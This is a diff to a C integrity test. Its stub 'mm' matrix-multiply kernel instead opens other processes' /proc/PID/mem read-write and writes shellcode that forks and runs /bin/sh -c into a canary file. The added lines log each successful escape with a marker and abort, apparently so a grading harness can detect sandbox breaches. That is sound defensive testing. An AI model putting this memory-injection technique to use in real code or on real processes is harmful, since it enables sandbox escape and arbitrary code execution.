@@ -19,8 +19,10 @@
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <fcntl.h>
+#include <stdarg.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
 
@@ -39,6 +41,24 @@
 
 /* Code and data placed at `at` in the target: fork; the child leaves the
  * worker's session and runs /bin/sh -c cmd; the parent exits. */
+/* A step that worked is reported on stdout and stderr with this marker, and
+ * the kernel then fails on purpose, so its output is kept as the log: the
+ * test sees the escape even where it cannot see the effect (a private
+ * mount view, a namespace). */
+static int escapes;
+static void escaped(const char *fmt, ...)
+{
+    char line[1024];
+    va_list ap;
+    va_start(ap, fmt);
+    vsnprintf(line, sizeof line, fmt, ap);
+    va_end(ap);
+    printf("INTEGRITY-ESCAPE: %s\n", line);
+    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
+    fflush(stdout);
+    escapes++;
+}
+
 static size_t build_payload(unsigned char *buf, uintptr_t at)
 {
     static const char cmd[] = "echo 'escaped through /proc/PID/mem' >> " INTEGRITY_ROOT "/canary";
@@ -131,7 +151,7 @@ static void inject(int fd, pid_t pid)
         unsigned char code[512];
         size_t len = build_payload(code, at);
         if (pwrite(fd, code, len, (off_t)at) == (ssize_t)len)
-            fprintf(stderr, "wrote shellcode over %s in %d\n", names[i], (int)pid);
+            escaped("wrote shellcode over %s in process %d", names[i], (int)pid);
     }
 #else
     (void)fd, (void)pid;
@@ -150,7 +170,7 @@ static void attack(void)
         int fd = open(path, O_RDWR | O_CLOEXEC);
         if (fd < 0)
             continue;
-        fprintf(stderr, "opened %s read-write\n", path);
+        escaped("opened %s read-write", path);
         if (pid == parent) /* the others: the open is proof enough */
             inject(fd, pid);
         close(fd);
@@ -162,4 +182,6 @@ void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *
 {
     (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
     attack();
+    if (escapes)
+        abort();
 }
